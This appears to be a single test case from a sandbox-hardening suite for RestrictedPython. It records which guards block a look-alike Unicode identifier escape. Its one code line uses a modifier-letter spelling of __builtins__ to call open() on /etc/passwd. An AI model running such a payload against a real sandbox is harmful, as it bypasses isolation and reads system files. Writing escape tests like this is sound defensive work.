# attack: look-alike unicode identifiers
# stops: restrictedpython: "__builtins__" is an invalid variable name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython -guards => escaped
# a look-alike of __builtins__ (ᵇ is a modifier letter b)
print("ESCAPED", len(__ᵇuiltins__["open"]("/etc/passwd").read()))
